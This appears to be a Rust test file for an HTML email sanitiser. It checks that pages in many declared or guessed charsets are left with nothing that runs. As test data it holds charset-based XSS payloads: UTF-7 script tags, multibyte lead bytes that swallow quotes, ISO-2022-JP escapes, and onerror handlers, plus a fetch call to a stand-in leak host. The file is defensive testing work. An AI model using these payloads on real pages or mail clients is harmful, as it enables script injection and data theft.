//! A page may be in any charset, say that it is in another, or be taken for a third by readers: none of them may see what acts.
use crate::all;
use crate::hostile::breach;
use crate::judge;
use crate::subject::{DEPTHS, disarmed};
use crate::vectors::Vector;
use encoding_rs::Encoding;
use mail_parser::decoders::base64::base64_decode;
use mailward::html::{Depth, charset};

/// A page and the charset that its header says.
type Sent = (Vector, Option<&'static str>);

const SCRIPT: &str = "<p>a<script>fetch('http://leak.test/ran')</script><img src=x onerror=x()>b</p>";

/// What a header may say.
const LABELS: &[Option<&str>] = &[
    None,
    Some(""),
    Some("us-ascii"),
    Some("utf-8"),
    Some("\"utf-8\""),
    Some("utf-7"),
    Some("unicode-1-1-utf-7"),
    Some("utf-16"),
    Some("utf-16be"),
    Some("utf-32"),
    Some("iso-8859-1"),
    Some("windows-1252"),
    Some("iso-2022-jp"),
    Some("iso-2022-kr"),
    Some("iso-2022-cn"),
    Some("hz-gb-2312"),
    Some("shift_jis"),
    Some("euc-jp"),
    Some("gb18030"),
    Some("big5"),
    Some("euc-kr"),
    Some("x-user-defined"),
    Some("koi8-r"),
    Some("cp037"),
    Some("scsu"),
    Some("bocu-1"),
    Some("unheard-of"),
];

/// What readers without a charset that they know take a page for, by its bytes or by where they live.
const GUESSES: &[&str] = &["utf-8", "windows-1252", "iso-2022-jp", "shift_jis", "euc-jp", "gb18030", "big5", "euc-kr"];

/// Charsets of one byte and of two.
const SWALLOWING: &[&str] = &["Shift_JIS", "gb18030", "GBK", "Big5", "EUC-JP", "EUC-KR"];

#[test]
fn every_page_in_another_charset_is_hostile_to_some_reader() {
    let some = bodies();
    all::hold(&some, |(vector, label)| {
        let is_hostile =
            LABELS.iter().chain([label]).any(|label| readings(&vector.page, *label).iter().any(|page| !judge::judge(page).acts.is_empty()));
        if is_hostile { Ok(()) } else { Err(vector.told("nothing was found")) }
    });
}

#[test]
fn no_reader_finds_anything_in_a_page_of_any_charset() {
    let sent: Vec<Sent> = bodies()
        .into_iter()
        .flat_map(|(vector, own)| LABELS.iter().chain([&own]).map(|label| (vector.clone(), *label)).collect::<Vec<_>>())
        .collect();
    all::hold(&sent, |(vector, label)| {
        let read = charset::read(&vector.page, *label);
        let label = if read.is_converted { Some("utf-8") } else { *label };
        for depth in DEPTHS {
            let left = disarmed(&read.bytes, depth);
            for page in readings(&left, label) {
                let found = judge::judge(&page);
                let found = breach(&found, depth);
                if !found.is_empty() {
                    return Err(vector.told(&format!("{label:?} {depth:?} leaves {found:?}\n    in {}", String::from_utf8_lossy(&left))));
                }
            }
        }
        Ok(())
    });
}

/// Pages that hide what acts in their charset, and the header that they are made for.
fn bodies() -> Vec<Sent> {
    let wide = |unit: fn(u16) -> [u8; 2]| SCRIPT.encode_utf16().flat_map(unit).collect::<Vec<u8>>();
    let (little, big) = (wide(u16::to_le_bytes), wide(u16::to_be_bytes));
    let bodies: Vec<(&str, Vec<u8>, Option<&'static str>)> = vec![
        ("plain", SCRIPT.into(), None),
        ("behind a mark of UTF-8", [b"\xef\xbb\xbf", SCRIPT.as_bytes()].concat(), Some("utf-16")),
        ("UTF-16, little, marked", [b"\xff\xfe", &little[..]].concat(), Some("utf-8")),
        ("UTF-16, big, marked", [b"\xfe\xff", &big[..]].concat(), Some("us-ascii")),
        ("UTF-16, little", little, Some("utf-16le")),
        ("UTF-16, big", big, Some("utf-16be")),
        ("UTF-7", b"+ADw-script+AD4-x()+ADw-/script+AD4-".to_vec(), Some("utf-7")),
        ("UTF-7, an attribute", b"<p title=\"a+ACI- onclick=+ACI-x()\">b".to_vec(), Some("utf-7")),
        ("UTF-7, said by the page", b"<meta charset=utf-7>+ADw-img src=x onerror=x()+AD4-".to_vec(), Some("utf-7")),
        ("UTF-7, without an end", b"<b>+ADw-script+AD4-x()".to_vec(), Some("unicode-1-1-utf-7")),
        ("ISO-2022-JP, an escape in a name", b"<p>a</p><scr\x1b(Bipt>x()</script>".to_vec(), Some("iso-2022-jp")),
        ("ISO-2022-JP, a quote that is none", b"<p title=\"\x1b$B\">\x1b(B\"onclick=x() a=\"b\">c".to_vec(), Some("iso-2022-jp")),
        ("ISO-2022-JP, a backslash that is a yen sign", b"<script>var a='\x1b(J\\';x()//'</script>".to_vec(), Some("iso-2022-jp")),
        ("Shift_JIS, a quote swallowed", b"<p title=\"\x83\">\" onclick=x() a=\"\">b".to_vec(), Some("shift_jis")),
        (
            "Shift_JIS, a quote swallowed, another attribute",
            b"<img alt=\"\x83\" title=\"><img src=x onerror=x()>\">".to_vec(),
            Some("shift_jis"),
        ),
        ("GB18030, a quote swallowed", b"<p title=\"\x81\">\" onclick=x() a=\"\">b<script>x()</script>".to_vec(), Some("gb18030")),
        ("Big5, a quote swallowed", b"<p title='\x87'>' onclick=x() a=''>b<script>x()</script>".to_vec(), Some("big5")),
        ("EUC-JP, a bracket swallowed", b"<p \x8f><b onclick=x()>c".to_vec(), Some("euc-jp")),
        ("NUL in the name", b"<scr\0ipt>x()</scr\0ipt><\0script>x()</script>".to_vec(), None),
        ("a soft hyphen and a mark", "<p>\u{ad}\u{feff}<script>x()</script>\u{feff}<img src=x onerror=x()>".into(), Some("utf-8")),
        ("x-user-defined", b"<p title=\xbc>\xbcscript\xbe<script>x()</script>".to_vec(), Some("x-user-defined")),
        ("two charsets of its own", b"<meta charset=utf-8><meta charset=utf-7>+ADw-script+AD4-x()".to_vec(), Some("utf-7")),
        ("XML's own word", b"<?xml version=\"1.0\" encoding=\"utf-7\"?>+ADw-script+AD4-x()".to_vec(), Some("utf-7")),
    ];
    bodies.into_iter().map(|(name, page, label)| (Vector::new(name.to_owned(), page, Depth::Active), label)).collect()
}

/// A page as UTF-8, as the readers of a message with such a header see it.
fn readings(page: &[u8], label: Option<&str>) -> Vec<Vec<u8>> {
    let label = label.map(|label| label.trim_matches('"').to_ascii_lowercase());
    if let Some(label) = &label
        && label.contains("utf-7")
    {
        return vec![without_utf7(page)];
    }
    let known = label.as_deref().and_then(|label| Encoding::for_label_no_replacement(label.as_bytes()));
    let encodings: Vec<&Encoding> = match known {
        Some(encoding) => vec![encoding],
        None => GUESSES.iter().filter_map(|guess| Encoding::for_label(guess.as_bytes())).collect(),
    };
    // A mark wins over the header (WHATWG Encoding section 6), and `decode` minds it.
    let mut pages: Vec<Vec<u8>> = encodings.iter().map(|encoding| encoding.decode(page).0.into_owned().into_bytes()).collect();
    if known.is_some_and(|encoding| SWALLOWING.contains(&encoding.name())) {
        pages.push(swallowed(page));
    }
    pages
}

/// The first byte of two takes whatever comes behind it with it, in readers older than WHATWG Encoding.
fn swallowed(page: &[u8]) -> Vec<u8> {
    let (mut left, mut bytes) = (Vec::new(), page.iter());
    while let Some(byte) = bytes.next() {
        if *byte >= 0x81 && bytes.next().is_some() {
            left.extend_from_slice("\u{FFFD}".as_bytes());
        } else {
            left.push(*byte);
        }
    }
    left
}

/// UTF-7 resolved (RFC 2152), with any end.
fn without_utf7(page: &[u8]) -> Vec<u8> {
    let text = String::from_utf8_lossy(page);
    let mut pieces = text.split('+');
    let mut plain = pieces.next().unwrap_or_default().to_owned();
    for piece in pieces {
        let end = piece.find(|letter: char| !letter.is_ascii_alphanumeric() && letter != '/').unwrap_or(piece.len());
        let (coded, behind) = piece.split_at(end);
        let padded = format!("{coded}{}", &"==="[..(4 - coded.len() % 4) % 4]);
        let bytes = base64_decode(padded.as_bytes()).unwrap_or_default();
        let units: Vec<u16> = bytes.chunks_exact(2).map(|pair| u16::from_be_bytes([pair[0], pair[1]])).collect();
        plain.push_str(&String::from_utf16_lossy(&units));
        plain.push_str(behind.strip_prefix('-').unwrap_or(behind));
    }
    plain.into_bytes()
}
